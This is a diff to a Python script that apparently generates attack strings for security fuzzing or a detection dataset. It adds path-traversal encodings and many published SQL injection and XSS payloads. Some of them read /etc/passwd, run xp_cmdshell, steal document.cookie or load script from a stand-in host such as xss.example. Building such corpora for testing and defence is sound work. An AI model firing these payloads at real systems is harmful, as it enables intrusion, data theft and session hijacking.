@@ -22,7 +22,7 @@ RNG = random.Random(20261202)
 
 # ---- path traversal: climbing out of a root, with every encoding servers have undone ----
 
-DOTS = ["%c0%2e%c0%2e", "%f0%80%80%ae%f0%80%80%ae", "..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae",
+DOTS = [".%00.", "..%00", "..%01", ".?", "??", "?.", "%c0%6e%c0%6e", "%c0.%c0.", "%c0%2e%c0%2e", "%f0%80%80%ae%f0%80%80%ae", "..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae",
         "%u002e%u002e", "%uff0e%uff0e", "0x2e0x2e", "%%32%65%%32%65", "%25c0%25ae%25c0%25ae",
         "\u2025", "....", "...", "..."]
 SEPARATORS = ["/", "\\", "%2f", "%5c", "%252f", "%255c", "%c0%af", "%c1%9c", "%c0%2f", "%c0%5c",
@@ -95,8 +95,44 @@ OBFUSCATE = [
 ]
 
 
-def sqli():
+# Families of published payloads, written from the techniques (auth bypass, fuzzing probes,
+# database-specific enumeration, time-based blind, polyglots), each varied over quotes.
+def sqli_families():
     out = []
+    for q in ["'", '"']:
+        for x in ["a", "x", "1", "hi"]:
+            out += [f"{q} or {q}{x}{q}={q}{x}", f"{q}) or ({q}{x}{q}={q}{x}", f"{x}{q} or 1=1 --",
+                    f"{q} or 0=0 #", f"admin{q} --", f"admin{q} #", f"admin{q})--", f"{q} OR 1 -- -",
+                    f"{q}='", f"{q}LIKE{q}", f"{q}=0--+", f"{x}{q} AND id IS NULL; --",
+                    f"{q}/**/OR/**/1/**/=/**/1", f"{q} or 1/*", f"{q} or sleep(5)={q}",
+                    f"{x}{q} or benchmark(10000000,MD5(1))#", f"{q};waitfor delay '0:0:5'--",
+                    f"1{q} ORDER BY 3--+", f"1{q} GROUP BY 1,2,--+", f"-1{q} UNION SELECT 1,2,3--+",
+                    f"{q} GROUP BY columnnames having 1=1 --", f"{q} and 1 in (select min(name) from sysobjects where xtype = 'U' and name > '.') --"]
+    # Numeric context: the application's number, then SQL.
+    for x in ["1", "0", "-1", "99"]:
+        out += [f"{x} or 1=1--", f"{x} or a=a", f"{x} AND id IS NULL; --", f"{x} or 1/*", f"{x} OR 1 -- -",
+                f"{x} GROUP BY 1 having 1=1 --", f"{x} or isnull(1/0) /*", f"{x}) or (1=1"]
+    out += ["'; exec master..xp_cmdshell 'ping 10.10.1.2'--", "'; if not(substring((select @@version),25,1) <> 8) waitfor delay '0:0:15' --",
+            "'; begin declare @v varchar(99) select @v=name from users end --", "' union select * from users where login = char(114,111,111,116);",
+            "'; EXEC ('SEL' + 'ECT US' + 'ER')", "'; EXECUTE IMMEDIATE 'SEL' || 'ECT US' || 'ER'", "UNI/**/ON SEL/**/ECT 1,2",
+            "password:*/=1--", "+or+isnull(1/0)+/*", "' union select 1,load_file('/etc/passwd'),1,1,1;",
+            "1;(load_file(char(47,101,116,99,47,112,97,115,115,119,100))),1,1,1;", "' || UTL_HTTP.REQUEST('http://x.example/')||'",
+            "' and 1=(select count(*) from all_users)--", "' AND (SELECT banner FROM v$version WHERE rownum=1) LIKE 'Oracle%'--",
+            "select version();", "select current_database();", "select usename from pg_user;", "select pg_read_file('/etc/passwd',0,200);",
+            ";select pg_sleep(10)--", "sleep(5)#", "1 or sleep(5)#", "1) or sleep(5)#", "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
+            "AND 2947=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))", "waitfor delay '00:00:05'",
+            "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/", ",(select * from (select(sleep(10)))a)",
+            "1 AND (SELECT * FROM Users) = 1", "' AND MID(VERSION(),1,1) = '5';", "-1 UNION SELECT 1 INTO @,@",
+            "select @@version", "select name from master..sysdatabases", "select user_name()", "select host, user from mysql.user",
+            "' or ''='", "\"' or 1 --'\"", "or 1=1--", "' or a=a--", "hi' or 1=1 --", "'hi' or 'x'='x';",
+            "1 and user_name() = 'dbo'", "' and substring(password/text(),1,1)='7", "1 union all select null,null,null--",
+            "AND 1=1", "AND 1=0", "1-false", "' AND 1=CONVERT(int,(SELECT @@version))--", "1' and extractvalue(rand(),concat(0x3a,(select version())))--",
+            "' OR EXISTS(SELECT 1 FROM dual)--", "1 RLIKE (SELECT 1)", "admin' or '1'='1'/*", "') or true--", "\") or true--"]
+    return out
+
+
+def sqli():
+    out = sqli_families()
     for body in BODIES:
         for _ in range(4):
             ctx, tail = RNG.choice(CONTEXTS), RNG.choice(TAILS)
@@ -125,8 +161,38 @@ URL_SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:"
 XSS_BREAK = ["", "\">", "'>", "</title>", "</textarea>", "-->", "</script>", "\"><", "';", "\";"]
 
 
-def xss():
+def xss_families():
+    js = ["alert('XSS')", "alert(String.fromCharCode(88,83,83))", "alert(document.cookie)", "prompt(1)"]
     out = []
+    for a in js:
+        out += [f"<IMG SRC=javascript:{a}>", f"<IMG SRC=JaVaScRiPt:{a}>", f"<IMG SRC=`javascript:{a}`>",
+                f"<IMG \"\"\"><SCRIPT>{a}</SCRIPT>\">", f"<IMG SRC=\"jav\tascript:{a};\">", f"<IMG SRC=\"jav&#x09;ascript:{a};\">",
+                f"<IMG SRC=\" &#14;  javascript:{a};\">", f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={a}>", f"<<SCRIPT>{a};//<</SCRIPT>",
+                f"\\\";{a};//", f"</TITLE><SCRIPT>{a};</SCRIPT>", f"<INPUT TYPE=\"IMAGE\" SRC=\"javascript:{a};\">",
+                f"<BODY BACKGROUND=\"javascript:{a}\">", f"<IMG DYNSRC=\"javascript:{a}\">", f"<IMG LOWSRC=\"javascript:{a}\">",
+                f"<STYLE>li {{list-style-image: url(\"javascript:{a}\");}}</STYLE><UL><LI>XSS</br>",
+                f"<BGSOUND SRC=\"javascript:{a};\">", f"<BR SIZE=\"&{{{a}}}\">", f"<LINK REL=\"stylesheet\" HREF=\"javascript:{a};\">",
+                f"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:{a};\">", f"<TABLE BACKGROUND=\"javascript:{a}\">",
+                f"<TD BACKGROUND=\"javascript:{a}\">", f"<DIV STYLE=\"background-image: url(javascript:{a})\">",
+                f"<DIV STYLE=\"width: expression({a});\">", f"<BASE HREF=\"javascript:{a};//\">", f"<svg/onload={a}>",
+                f"\"><img src=x onerror={a}>", f"'\"--></style></script><script>{a}</script>", f"<a href=\"javascript:{a}\">x</a>",
+                f"<details open ontoggle={a}>", f"<marquee onstart={a}>", f"<video><source onerror=\"{a}\">", f"<audio src onloadstart={a}>",
+                f"<isindex action=javascript:{a} type=image>", f"<frameset onload={a}>", f"<object onerror={a}>",
+                f"javascript:{a}", f"<iframe srcdoc=\"<script>{a}</script>\">", f"<x onclick={a}>click"]
+    out += ["<IMG SRC='vbscript:msgbox(\"XSS\")'>", "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
+            "<SCRIPT SRC=http://xss.example/xss.js?< B >", "<iframe src=http://xss.example/scriptlet.html <",
+            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
+            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
+            "<SCRIPT a=\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>", "<XSS STYLE=\"behavior: url(xss.htc);\">",
+            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
+            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+            "<svg><script>alert&#40;1&#41;</script>", "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"]
+    return out
+
+
+def xss():
+    out = xss_families()
     for tag in TAGS:
         ev, js = RNG.choice(EVENTS), RNG.choice(JS)
         brk = RNG.choice(XSS_BREAK)
